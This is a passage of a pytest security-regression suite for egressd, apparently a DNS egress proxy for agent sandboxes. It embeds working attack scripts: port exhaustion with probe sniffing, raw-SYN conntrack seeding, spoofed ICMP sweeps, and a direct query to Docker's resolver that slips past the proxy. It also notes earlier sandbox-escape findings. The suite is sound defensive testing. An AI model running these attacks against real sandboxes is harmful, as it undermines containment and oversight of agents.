    its queries there and learned its answers. The proxy's answer to a copy now carries a token
    (an SOA in the authority section) that egressd's own answer must bring back; the host's
    NXDOMAIN does not, and nothing is pinned."""
    serve(lab)
    lab.add_servers([FORGED_V4], tcp=(80,))
    rogue_resolver(lab)
    HostSideResolver(lab)
    p = attacker(lab, FIRST_PROBE_COPIER, ROGUE, 20.0, caps=DOCKER_CAPS)
    d = egressd(policy("127.0.0.11", hosts=["a.example.com", "*.wild.example.org"]), extra=["--log-format", "json"])
    line = labmod._read_line(p, 25.0, "the attacker's copy")
    assert line == "COPIED 3", line  # the proxy answered the copy (NXDOMAIN): it arrived
    labmod.wait_for(lambda: events(d, "forwarder_pinned") or dns_events(d, "forwarder_probe_race"), 10.0,
                    "the copied probe to end")
    attacker_result(p, timeout=10)
    assert not events(d, "forwarder_pinned"), events(d, "forwarder_pinned")
    assert dns_events(d, "forwarder_probe_race")[0].get("reason") == "answer_not_the_proxys", d.log()
    # Names still resolve through the resolver, and nothing of the rogue's was learned.
    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
    assert FORGED_V4 not in lab.learned_set(4)
    assert lab.tcp_connect(FORGED_V4, 80) != "ok"


# Found by a second review of the probe: the sandbox process (root, Docker's default capabilities;
# NET_RAW only to sniff the probe's name on `lo`) connects to T:53 (redirected to the proxy) and
# closes at once, from every port of the namespace's range: each leaves a TIME_WAIT entry for
# (its address, port, T, 53), so Docker's resolver gets EADDRNOTAVAIL and its copy of the probe
# never exists. It sends the only copy itself, over a new connection, to its own resolver. Before
# that it copies each probe once (a race: nothing pinned) until the ports are gone.
# argv: rogue, target, budget in seconds.
PORT_EXHAUSTER = textwrap.dedent(r'''
    import errno, json, socket, struct, sys, threading, time
    rogue, target, budget = sys.argv[1], sys.argv[2], float(sys.argv[3])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # NET_RAW
    sniff.bind(("lo", 0))
    sniff.settimeout(0.05)
    st = {"conns": 0, "notavail": 0, "exhausted_at": None, "errors": {}, "races": 0, "copy": None}
    stop = threading.Event()
    t0 = time.monotonic()
    def exhaust():
        while not stop.is_set() and time.monotonic() - t0 < budget:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.connect((target, 53))          # redirected to egressd's proxy
                st["conns"] += 1
            except OSError as e:
                if e.errno == errno.EADDRNOTAVAIL:
                    st["notavail"] += 1
                    if st["exhausted_at"] is None:
                        st["exhausted_at"] = round(time.monotonic() - t0, 2)
                        print("EXHAUSTED", st["conns"], flush=True)
                    s.close()
                    time.sleep(0.05)             # pacing: keep grabbing ports as TIME_WAITs expire
                    continue
                st["errors"][str(e.errno)] = st["errors"].get(str(e.errno), 0) + 1
            s.close()                            # active close: TIME_WAIT on (me, port, target, 53)
    import ctypes
    # only frames longer than 100 bytes (segments with data): the flood of handshakes is not read
    prog = struct.pack("HBBI", 0x80, 0, 0, 0) + struct.pack("HBBI", 0x35, 0, 1, 100) + \
        struct.pack("HBBI", 0x06, 0, 0, 0xFFFF) + struct.pack("HBBI", 0x06, 0, 0, 0)
    buf = ctypes.create_string_buffer(prog)
    fprog = struct.pack("HL", 4, ctypes.addressof(buf))
    sniff.setsockopt(socket.SOL_SOCKET, 26, fprog)   # SO_ATTACH_FILTER
    th = threading.Thread(target=exhaust, daemon=True)
    print("READY", flush=True)
    seen = set()
    deadline = time.monotonic() + budget
    while time.monotonic() < deadline and st["copy"] is None:
        try:
            f = sniff.recv(65535)
        except socket.timeout:
            continue
        p = f[14:]
        if len(p) < 40 or p[0] >> 4 != 4 or p[9] != 6:
            continue
        ihl = (p[0] & 0xF) * 4
        data = p[ihl + (p[ihl + 12] >> 4) * 4:]
        if len(data) <= 14 or data[4] & 0x80 or b"egressd-probe-" not in data.lower() or data[14:] in seen:
            continue
        seen.add(data[14:])
        q = data[2:]
        if not st.get("started"):
            st["started"] = True
            t0 = time.monotonic()
            th.start()           # egressd is up (its start-up probe): exhaust through its redirect
        if st["exhausted_at"] is None:
            # not ready: a second copy (UDP) makes this probe a race, retried 10 s later
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(2)
            try:
                u.sendto(q, ("198.51.100.99", 53))
                u.recv(65535)
            except OSError:
                pass
            st["races"] += 1
            print("RACED", st["races"], flush=True)
            continue
        # ready: Docker cannot connect to target:53; answer the probe alone over a fresh connection
        c = socket.create_connection((rogue, 53), timeout=3)
        c.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
        st["copy"] = c.recv(n, socket.MSG_WAITALL)[3] & 0xF
        st["copy_at"] = round(time.monotonic() - t0, 2)
        c.close()
    print("COPIED", st["copy"], flush=True)
    sys.stdin.readline()
    stop.set()
    print(json.dumps(st))
''')


def test_a_probe_whose_docker_copy_was_suppressed_by_port_exhaustion_pins_nothing(lab, egressd):
    """Docker cannot forward egressd's probe, answers it itself, and the one copy that reached the
    proxy was the sandbox's: egressd pins a target only when its probe gets the proxy's own
    NXDOMAIN back through the resolver. Before, it pinned the sandbox's resolver and learned its
    answers (and kept the pin across a restart). The sandbox's port range is narrowed to 500
    ports so the exhaustion takes 500 connections, not 28,000."""
    serve(lab)
    lab.add_servers([FORGED_V4], tcp=(80,))
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40499")
    rogue_resolver(lab)
    DockerResolver(lab)
    p = attacker(lab, PORT_EXHAUSTER, ROGUE, DNS_V4, 40.0, caps=DOCKER_CAPS)
    d = egressd(policy("127.0.0.11", hosts=["a.example.com", "*.wild.example.org"]), extra=["--log-format", "json"])
    raced = 0
    while True:
        line = labmod._read_line(p, 45.0, "the attacker")
        raced += line.startswith("RACED")
        if line.startswith("COPIED"):
            break
    assert line == "COPIED 3", line  # the proxy answered the copy (NXDOMAIN): it arrived
    labmod.wait_for(lambda: events(d, "forwarder_pinned") or len(dns_events(d, "forwarder_probe_race")) > raced,
                    10.0, "the probe the attacker answered to end")
    p.stdin.write(b"\n")
    p.stdin.flush()
    attacker_result(p, timeout=30)
    assert not events(d, "forwarder_pinned"), events(d, "forwarder_pinned")
    last = dns_events(d, "forwarder_probe_race")[-1]
    assert last.get("reason") == "answer_not_the_proxys", last
    assert FORGED_V4 not in lab.learned_set(4)
    assert lab.tcp_connect(FORGED_V4, 80) != "ok"


# --- a port per query, and the sandbox's own queries ---------------------------------------------


@pytest.mark.parametrize("server", [DNS_V4, DNS_V6])
def test_sandbox_queries_work_after_a_burst_of_upstream_queries(lab, egressd, server):
    """Every upstream query leaves from a fresh port that goes back to the namespace's ephemeral
    range once answered. Its conntrack entry must go with it: a sandbox query to the same server
    (the sandbox asks where egressd asks) that drew such a port would otherwise be the original
    direction of egressd's old flow, not redirected, and denied (EPERM). With 2000 upstream
    flows in conntrack, 300 fresh sockets would hit one about 20 times. Both families: the flow
    to forget is read from each answer's destination (IP_ORIGDSTADDR, IPV6_ORIGDSTADDR)."""
    serve(lab)
    egressd(policy(server))
    t = tok()
    s = lab.sandbox.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    answered = 0
    with s:
        s.connect((server, 53))
        s.settimeout(3.0)
        for batch in range(20):  # 2000 allowed names, 100 in flight at a time
            for i in range(100):
                s.send(labmod.dns_build_query(f"b{batch}-{i}.{t}.wild.example.org", "A", batch * 100 + i))
            for _ in range(100):
                s.recv(4096)
                answered += 1
    assert answered == 2000
    failures = []
    for i in range(300):
        r = lab.dns_query(f"after{i}.{t}.wild.example.org", server=server, timeout=2.0)
        if (r.outcome, r.rcode) != ("ok", "NOERROR"):
            failures.append(f"{i}: {r.outcome!r} {r.rcode}")
    assert not failures, f"{len(failures)}/300 sandbox queries failed after the burst:\n" + "\n".join(failures[:10])


def answers_by_id(s: socket.socket, n: int, seconds: float) -> dict[int, str]:
    """The rcode of each answer read on connected socket `s`, by query id, until `n` have come or
    `seconds` have passed."""
    rcodes = {}
    deadline = time.monotonic() + seconds
    while len(rcodes) < n and (left := deadline - time.monotonic()) > 0:
        s.settimeout(left)
        try:
            qid, rcode, _records = labmod.dns_parse_reply(s.recv(4096))
        except TimeoutError:
            break
        rcodes[qid] = rcode
    return rcodes


def test_a_burst_that_arrives_while_egressd_is_not_scheduled_is_answered_whole(lab, egressd):
    """CI run 31: under load, egressd's sanitizer build was not scheduled while 256 datagrams and
    then 64 queries arrived; the proxy's socket held the kernel's default 208 KiB (256 small
    datagrams) and 63 queries were dropped. Here egressd is stopped (SIGSTOP) for the burst:
    600 datagrams the proxy drops, then 64 queries; continued, it answers every query."""
    serve(lab)
    d = egressd(policy(DNS_V4))
    t = tok()
    os.kill(d.pid, signal.SIGSTOP)
    try:
        junk = lab.sandbox.socket(socket.AF_INET, socket.SOCK_DGRAM)
        with junk:
            for _ in range(600):
                junk.sendto(b"\0", (DNS_V4, 53))  # too short to be a query: the proxy drops it
        s = lab.sandbox.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((DNS_V4, 53))
        for i in range(64):
            s.send(labmod.dns_build_query(f"burst{i}.{t}.wild.example.org", "A", i))
    finally:
        os.kill(d.pid, signal.SIGCONT)
    with s:
        rcodes = answers_by_id(s, 64, 5.0)
    assert len(rcodes) == 64 and set(rcodes.values()) == {"NOERROR"}, \
        f"{len(rcodes)}/64 answered; missing {sorted(set(range(64)) - set(rcodes))}"


@pytest.mark.parametrize("server", [DNS_V4, DNS_V6])
def test_upstream_queries_work_when_every_ephemeral_port_has_a_stale_sandbox_flow(lab, egressd, server):
    """The other way round: a sandbox query leaves a conntrack entry (sandbox address and port ->
    server:53, redirected to the proxy) that outlives its socket by the UDP timeout. egressd's
    next upstream socket that draws that port sends the same tuple: conntrack takes it for the
    sandbox's flow, redirects it to the proxy, and the output chain denies it (EPERM), so the
    query failed (SERVFAIL), one in a few hundred after an ordinary burst (a CI failure). Here a
    sandbox process leaves such an entry on every port of the ephemeral range it can bind, then
    asks 64 names at once (64 fresh upstream sockets): every one must be answered."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40255")  # every port of it, cheaply
    d = egressd(policy(server))
    fam = socket.AF_INET6 if ":" in server else socket.AF_INET
    lo, hi = (int(x) for x in lab.sandbox.read_proc("/proc/sys/net/ipv4/ip_local_port_range").split())
    covered = 0
    deadline = time.monotonic() + 60
    for port in range(lo, hi + 1):
        assert time.monotonic() < deadline, f"covering the ephemeral range took over 60 s (at port {port})"
        s = lab.sandbox.socket(fam, socket.SOCK_DGRAM)
        try:
            s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", port))
            s.sendto(b"\0", (server, 53))  # too short to be a query: the proxy drops it
            covered += 1
        except OSError:
            pass  # one of egressd's own sockets holds it
        finally:
            s.close()
    assert covered > (hi - lo) * 0.9, (covered, lo, hi)
    t = tok()
    s = lab.sandbox.socket(fam, socket.SOCK_DGRAM)
    with s:
        s.connect((server, 53))
        for i in range(64):
            s.send(labmod.dns_build_query(f"stale{i}.{t}.wild.example.org", "A", i))
        rcodes = answers_by_id(s, 64, 5.0)
    failed = {q: r for q, r in rcodes.items() if r != "NOERROR"}
    if len(rcodes) == 64 and not failed:
        return
    # A CI run once missed one answer of 64 (no SERVFAIL, a clean log): say which, and what
    # egressd and the kernel's flow table knew then.
    missing = sorted(set(range(64)) - set(rcodes))
    table = [line for line in lab.sandbox.read_proc("/proc/net/nf_conntrack").splitlines() if "dport=53 " in line]
    redirected = [line for line in table if "src=127.0.0.1 " in line or "src=::1 " in line]
    flows = f"{len(redirected)} redirected to the proxy; the others:\n" + \
        "\n".join(line for line in table if line not in redirected)
    log = "\n".join(line for line in d.log().splitlines() if "event=malformed_query" not in line)
    pytest.fail(f"{len(rcodes)}/64 answered, missing ids {missing}, not NOERROR {failed}\n"
                f"status: {json.dumps(d.status().get('dns', d.status()))[:2000]}\n"
                f"log: {log[-2000:]}\nflows: {flows[-3000:]}")


# The TCP twin: an upstream that truncates every UDP answer, so egressd asks again over TCP. A
# SYN of the sandbox's to the upstream's port 53 that never reaches the proxy it is redirected to
# leaves an entry in SYN_SENT for two minutes; egressd's SYN from that port followed it to the
# proxy and was dropped, at each retransmission: the query timed out (SERVFAIL). One pass over
# the ephemeral range took under a second, so every such name failed (found by an attack review).

# uid 65534, no capability: for every ephemeral port P, a TCP socket bound to eth0
# (SO_BINDTODEVICE, unprivileged since 5.7) and to P connects (non-blocking) to argv[1]:53 and is
# closed at once; the redirected SYN, bound to eth0, never reaches the proxy on loopback, and a
# socket closed in SYN_SENT sends nothing. Prints the connect results by errno name.
SYN_SEED_BOUND = textwrap.dedent(r'''
    import errno, json, socket, sys
    upstream = sys.argv[1]
    fam = socket.AF_INET6 if ":" in upstream else socket.AF_INET
    print("READY", flush=True)
    a, b = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    res = {}
    for port in range(a, b + 1):
        s = socket.socket(fam, socket.SOCK_STREAM)
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
            s.bind(("::" if fam == socket.AF_INET6 else "0.0.0.0", port))
            s.setblocking(False)
            k = errno.errorcode.get(s.connect_ex((upstream, 53)), "?")
        except OSError as ex:
            k = "x" + errno.errorcode.get(ex.errno, str(ex.errno))
        finally:
            s.close()
        res[k] = res.get(k, 0) + 1
    print(json.dumps(res))
''')

# Docker's capabilities (NET_RAW): from the sandbox's address and every ephemeral port, one raw
# SYN to argv[1]:53 with a wrong TCP checksum: the proxy's kernel drops it, nothing answers, the
# redirected entry stays SYN_SENT. argv: upstream, the sandbox's address.
SYN_SEED_RAW = textwrap.dedent(r'''
    import json, socket, struct, sys
    upstream, me = sys.argv[1], sys.argv[2]
    v6 = ":" in upstream
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    raw = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src, dst = socket.inet_pton(fam, me), socket.inet_pton(fam, upstream)
    print("READY", flush=True)
    a, b = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    sent = errs = 0
    for port in range(a, b + 1):
        seg = struct.pack("!HHIIBBHHH", port, 53, 0x1000, 0, 5 << 4, 0x02, 65535, 0xDEAD, 0)
        if v6:
            ip = struct.pack("!IHBB", 6 << 28, len(seg), 6, 64) + src + dst
        else:
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 0, 0x4000, 64, 6, 0, src, dst)
        try:
            raw.sendto(ip + seg, (upstream, 0))
            sent += 1
        except OSError:
            errs += 1
    print(json.dumps({"sent": sent, "errors": errs}))
''')


def truncating_upstream(lab, family: int) -> str:
    """An upstream in the internet namespace that truncates every UDP answer: its address."""
    upstream = "198.51.100.98" if family == 4 else "2001:db8:2::98"
    lab.internet.ip("addr", "add", f"{upstream}/32" if family == 4 else f"{upstream}/128", "dev", "lo",
                    *([] if family == 4 else ["nodad"]))
    p = lab.spawn([sys.executable, "-c", SLOW_TCP_UPSTREAM, upstream, WILD_V4, "0"], netns=lab.internet,
                  stdout=subprocess.PIPE)
    assert labmod._read_line(p, 10.0, "the truncating upstream") == "READY"
    return upstream


def syn_sent_to_port_53(lab) -> int:
    return sum(1 for line in lab.sandbox.read_proc("/proc/net/nf_conntrack").splitlines()
               if " tcp " in line and " SYN_SENT " in line and " dport=53 " in line)


@pytest.mark.parametrize("how", ["device-bound", "raw"])
@pytest.mark.parametrize("family", [4, 6])
def test_tcp_fallback_is_answered_when_every_port_has_a_stale_sandbox_syn(lab, egressd, family, how):
    """device-bound: uid 65534, no capability; raw: Docker's capabilities. egressd now draws its
    TCP try's port before the connect and deletes whatever entry conntrack holds on that flow."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40063")  # the seeds cover it all, cheaply
    upstream = truncating_upstream(lab, family)
    d = egressd(policy(upstream))
    t = tok()
    first = lab.dns_query(f"h0.{t}.wild.example.org", timeout=5.0)
    assert (first.rcode, first.addresses) == ("NOERROR", [WILD_V4]), (first.rcode, first.addresses)
    if how == "raw":
        me = labmod.SANDBOX_V4 if family == 4 else labmod.SANDBOX_V6
        seeded = attacker_result(attacker(lab, SYN_SEED_RAW, upstream, me, caps=DOCKER_CAPS), timeout=60)
    else:
        seeded = attacker_result(attacker(lab, SYN_SEED_BOUND, upstream, uid=True), timeout=120)
    stale = syn_sent_to_port_53(lab)
    assert stale >= 60, (stale, seeded)  # the trap is set: on binaries before, every answer below failed
    answers = [lab.dns_query(f"h{i}.{t}.wild.example.org", timeout=8.0) for i in range(1, 4)]
    got = [(r.rcode, r.addresses) for r in answers]
    assert got == [("NOERROR", [WILD_V4])] * 3, (got, seeded, stale, d.log()[-2500:])


# Docker's capabilities (NET_RAW): a SYN from 127.0.0.11:53 to every ephemeral port of 127.0.0.1;
# each entry's reply direction is the flow of egressd's TCP query to Docker's resolver from that
# port: egressd's SYN was taken for a reply, denied, reset.
SYN_SEED_REPLY = textwrap.dedent(r'''
    import json, socket, struct
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    lo, res = socket.inet_aton("127.0.0.1"), socket.inet_aton("127.0.0.11")
    def csum(b):
        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
        while s >> 16:
            s = (s & 0xFFFF) + (s >> 16)
        return ~s & 0xFFFF
    print("READY", flush=True)
    a, b = (int(x) for x in open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
    sent = errs = 0
    for port in range(a, b + 1):
        seg = struct.pack("!HHIIBBHHH", 53, port, 0x1000, 0, 5 << 4, 0x02, 65535, 0, 0)
        seg = seg[:16] + struct.pack("!H", csum(res + lo + struct.pack("!BBH", 0, 6, len(seg)) + seg)) + seg[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 0, 0x4000, 64, 6, 0, res, lo)
        try:
            raw.sendto(ip + seg, ("127.0.0.1", 0))
            sent += 1
        except OSError:
            errs += 1
    print(json.dumps({"sent": sent, "errors": errs}))
''')


def test_tcp_fallback_to_dockers_resolver_is_answered_when_every_port_is_a_stale_entrys_reply(lab, egressd):
    """Conntrack finds an entry by either direction: deleting the flow egressd is about to open
    takes the entry whose reply it would be as well."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40063")
    DockerResolver(lab, truncate="big")
    d = docker_egressd(lab, egressd)
    t = tok()
    first = lab.dns_query(f"big0.{t}.wild.example.org", timeout=5.0)
    assert (first.rcode, first.addresses) == ("NOERROR", [WILD_V4]), (first.rcode, first.addresses)
    seeded = attacker_result(attacker(lab, SYN_SEED_REPLY, caps=DOCKER_CAPS), timeout=60)
    stale = sum(1 for line in lab.sandbox.read_proc("/proc/net/nf_conntrack").splitlines()
                if " tcp " in line and "src=127.0.0.11 dst=127.0.0.1 sport=53 " in line)
    assert stale >= 60, (stale, seeded)
    answers = [lab.dns_query(f"big{i}.{t}.wild.example.org", timeout=8.0) for i in range(1, 4)]
    got = [(r.rcode, r.addresses) for r in answers]
    assert got == [("NOERROR", [WILD_V4])] * 3, (got, seeded, stale, d.log()[-2500:])


@pytest.mark.parametrize("server", [DNS_V4, DNS_V6])
def test_an_upstream_port_is_reused_only_after_its_flow_is_forgotten(lab, egressd, server):
    """An answered query's port goes back to the ephemeral range, and its conntrack entry is
    deleted. If the port went back first, the next query could draw it while the old entry
    still stood, send on it, and then lose the entry to the delete: its answer would come in as
    a new flow to egressd's socket, be dropped in chain input (`ct direction original socket
    mark ... drop`), and the sandbox wait a try's timeout. A range of 32 ports makes every draw
    a likely repeat (16 queries in flight, the client's socket, and the ports of a turn's
    answers until their release); a counter ahead of egressd's chain input sees any answer
    that came in without its flow."""
    serve(lab)
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40031")
    egressd(policy(server))
    family = "ip6" if ":" in server else "ip"
    rc, _, err = lab.nft(lab.sandbox, "-f", "-", input=f"""
        table inet probe {{
            chain input {{
                type filter hook input priority -10; policy accept;
                {family} saddr {server} udp sport 53 ct direction original counter
            }}
        }}""")
    assert rc == 0, err
    t = tok()
    s = lab.sandbox.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    sent = answered = 0
    rcodes = {}
    with s:
        s.connect((server, 53))
        s.settimeout(3.0)
        # 2000 allowed names, 16 in flight: a new query as each answer comes, so egressd reads
        # new queries in the same turns as it reads answers and releases their ports.
        while answered < 2000:
            while sent < 2000 and sent - answered < 16:
                s.send(labmod.dns_build_query(f"r{sent}.{t}.wild.example.org", "A", sent))
                sent += 1
            rcode = labmod.dns_parse_reply(s.recv(4096))[1]
            rcodes[rcode] = rcodes.get(rcode, 0) + 1
            answered += 1
    assert rcodes == {"NOERROR": 2000}, rcodes
    rc, out, err = lab.nft(lab.sandbox, "list", "chain", "inet", "probe", "input")
    assert rc == 0, err
    strays = int(re.search(r"counter packets (\d+)", out).group(1))
    assert strays == 0, f"{strays} upstream answers came in without their flow:\n{out}"


@pytest.mark.parametrize("phase", ["agent", "verifier"], ids=["allowlist", "no-network"])
def test_dockers_resolver_is_out_of_reach_when_egressd_asks_another_upstream(lab, egressd, phase):
    """Docker's resolver forwarding from the host's namespace (the host's resolver on its
    loopback), while egressd is given an upstream outside the namespace (dns.upstream), as
    docs/security.md suggests. A process with no capability reads the resolver's real port in
    /proc/net/udp and /proc/net/tcp and asks it directly, past the DNAT of :53 (found by an
    attack review: the name reached the upstream in every phase). 127.0.0.11 is now denied on
    every port whatever egressd's upstream; :53 still reaches the proxy."""
    serve(lab)
    resolver = HostSideResolver(lab)
    egressd(policy(DNS_V4, hosts=["a.example.com"]), phase=phase)
    token = tok("x")
    res = attacker_result(attacker(lab, DIRECT_QUERY, f"{token}.wild.example.org", uid=True))
    assert res["udp_port"] == res["tcp_port"] == resolver.port, res
    assert not asked(resolver, token), f"the sandbox reached Docker's resolver past the proxy: {res}"
    assert not res["udp"].startswith("rcode") and not res["tcp"].startswith("rcode"), res
    # Through :53, the proxy answers as the phase says.
    r = lab.sandbox.dns_query("a.example.com", server="127.0.0.11")
    assert r.rcode == ("NOERROR" if phase == "agent" else "REFUSED"), r


# ---- ICMP errors from anyone at egressd's upstream socket -------------------------------------
# An ICMP error reaches a connected UDP socket from whoever can send to its address, quoting its
# ports: a neighbour on the network (another sandbox of an agent, which can reach the host's
# address in a public phase or through host.docker.internal; or, for a sidecar, a neighbour on
# the same bridge) swept the ephemeral range with port unreachables and ended every try, so the
# query failed (SERVFAIL; attack review 9, Docker's NET_RAW, 23 of 24). Only an error from the
# upstream itself ends a try early now; the rest wait out the try's timeout.

# From argv[1] (an address of its own) to argv[2] (the sandbox's), ICMP port unreachable quoting
# argv[2]:P -> argv[3]:53/udp for every P in [argv[4], argv[5]], sweep after sweep, until stdin
# closes or argv[6] seconds pass. Prints the count sent.
ICMP_SWEEP = textwrap.dedent(r'''
    import select, socket, struct, sys, time
    me, target, upstream, lo, hi, seconds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.bind((me, 0))
    quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 48, 0x1234, 0x4000, 64, 17, 0,
                         socket.inet_aton(target), socket.inet_aton(upstream))
    def csum(b):
        c = sum(struct.unpack("!%dH" % (len(b) // 2), b))
        while c >> 16:
            c = (c & 0xFFFF) + (c >> 16)
        return ~c & 0xFFFF
    print("READY", flush=True)
    sent, deadline = 0, time.monotonic() + seconds
    while time.monotonic() < deadline and not select.select([sys.stdin], [], [], 0)[0]:
        for p in range(lo, hi + 1):
            body = quoted + struct.pack("!HHHH", p, 53, 28, 0)
            s.sendto(struct.pack("!BBHI", 3, 3, csum(struct.pack("!BBHI", 3, 3, 0, 0) + body), 0) + body, (target, 0))
            sent += 1
    print(sent, flush=True)
''')


def test_icmp_errors_from_a_neighbour_do_not_end_egressds_upstream_tries(lab, egressd):
    upstream, neighbour = "198.51.100.98", "198.51.100.77"
    lab.internet.ip("addr", "add", f"{upstream}/32", "dev", "lo")
    lab.internet.ip("addr", "add", f"{neighbour}/32", "dev", "lo")
    slow = lab.spawn([sys.executable, "-c", SLOW_UDP_UPSTREAM, upstream, "203.0.113.10", "0.4"], netns=lab.internet,
                     stdout=subprocess.PIPE)
    assert labmod._read_line(slow, 10.0, "the slow upstream") == "READY"
    lab.sandbox.sysctl("net.ipv4.ip_local_port_range", "40000 40255")  # one sweep is 256 packets
    d = egressd(policy(upstream))
    assert lab.dns_query(f"{tok()}.wild.example.org", "A", timeout=5.0).rcode == "NOERROR"  # the control
    sweep = lab.spawn([sys.executable, "-c", ICMP_SWEEP, neighbour, labmod.SANDBOX_V4, upstream, "40000", "40255",
                       "30"], netns=lab.internet, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert labmod._read_line(sweep, 10.0, "the ICMP sweep") == "READY"
    try:
        rcodes = [lab.dns_query(f"{tok()}.wild.example.org", "A", timeout=5.0).rcode for _ in range(4)]
    finally:
        sweep.stdin.close()
    sent = int(labmod._read_line(sweep, 10.0, "the sweep's count"))
    assert sent > 256 * 4, sent  # it did sweep, several times
    assert rcodes == ["NOERROR"] * 4, (rcodes, d.log()[-1500:])


# ---- A switch stops what an earlier phase sent (attack review 10) -------------------------------
# DESIGN §1: the upstream sees no query for a name the phase in force does not allow. A query
# the old phase forwarded was sent again after the switch had been acknowledged: the next try
# of its schedule (half a second later, the next server or round), or TCP after a truncated
# answer. Under Docker's resolver a sandbox with NET_RAW could also copy egressd's in-flight
# question off loopback and have each copy relayed, at its own timing, after the switch.

# An upstream that logs every query it receives (one JSON line: CLOCK_MONOTONIC, transport,
# name) and answers none ("silent"), or answers every UDP query truncated 0.3 s late and TCP
# at once ("truncate"), or every UDP query 0.3 s late ("late"); answers say A 198.51.100.11.
# argv: address, mode, log file.
LOGGING_UPSTREAM = textwrap.dedent(r'''
    import json, socket, struct, sys, threading, time
    addr, mode, path = sys.argv[1], sys.argv[2], sys.argv[3]
    LATE_ADDR = "198.51.100.11"
    lock = threading.Lock()
    def name_end(q):
        i, labels = 12, []
        while q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode(errors="replace"))
            i += 1 + q[i]
        return ".".join(labels).lower(), i + 5
    def logged(q, transport):
        name, end = name_end(q)
        with lock, open(path, "a") as f:
            f.write(json.dumps([time.monotonic(), transport, name]) + "\n")
        return end
    def answer(q, end):
        return (q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:end] + b"\xc0\x0c"
                + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(LATE_ADDR))
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((addr, 53))
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind((addr, 53))
    t.listen(16)
    def udp():
        while True:
            q, peer = u.recvfrom(4096)
            end = logged(q, "udp")
            if mode == "truncate":
                tc = q[:2] + b"\x83\x80\x00\x01\x00\x00\x00\x00\x00\x00" + q[12:end]
                threading.Timer(0.3, u.sendto, (tc, peer)).start()
            elif mode == "late":
                threading.Timer(0.3, u.sendto, (answer(q, end), peer)).start()
    def serve(c):
        with c:
            n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
            q = c.recv(n, socket.MSG_WAITALL)
            end = logged(q, "tcp")
            if mode == "silent":
                c.recv(1)
                return
            a = answer(q, end)
            c.sendall(struct.pack("!H", len(a)) + a)
            c.recv(1)
    threading.Thread(target=udp, daemon=True).start()
    print("READY", flush=True)
    while True:
        c, _ = t.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()
''')


def logging_upstream(lab, addr: str, mode: str) -> Path:
    path = lab.tmp / f"upstream-{random.getrandbits(24):06x}.jsonl"
    lab.internet.ip("addr", "add", f"{addr}/32", "dev", "lo")
    p = lab.spawn([sys.executable, "-c", LOGGING_UPSTREAM, addr, mode, str(path)], netns=lab.internet,
                  stdout=subprocess.PIPE)
    assert labmod._read_line(p, 10.0, "the logging upstream") == "READY"
    return path


def logged_queries(path: Path, name: str) -> list:
    if not path.exists():
        return []
    return [e for e in map(json.loads, path.read_text().splitlines()) if e[2] == name]


def switched_mid_query(lab, egressd, mode: str, to: str) -> tuple:
    """A query for an allowed name whose first try the upstream leaves unanswered (silent) or
    truncates; the switch to `to` lands while it is in flight. (tries before the
    acknowledgment, tries after it, the sandbox's rcode)."""
    upstream = "198.51.100.97"
    log = logging_upstream(lab, upstream, mode)
    d = egressd(policy(upstream, extra="  other: { network_mode: allowlist, allowed_hosts: [\"*.other.example.org\"] }\n"))
    name = f"{tok()}.wild.example.org"
    s = lab.sandbox.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5.0)
    s.connect((DNS_V4, 53))
    s.send(labmod.dns_build_query(name, "A", 0x1234))
    labmod.wait_for(lambda: logged_queries(log, name), 3.0, "egressd's first try to reach the upstream")
    rc, out, err = d.ctl("apply", to)
    assert rc == 0, (rc, out, err)
    acked = time.monotonic()
    rcode = labmod.dns_parse_reply(s.recv(4096))[1]  # the query's end: no try comes after it
    s.close()
    tries = logged_queries(log, name)
    return [e for e in tries if e[0] <= acked], [e for e in tries if e[0] > acked], rcode


@pytest.mark.parametrize("mode", ["silent", "truncate"])
@pytest.mark.parametrize("to", ["verifier", "other"])
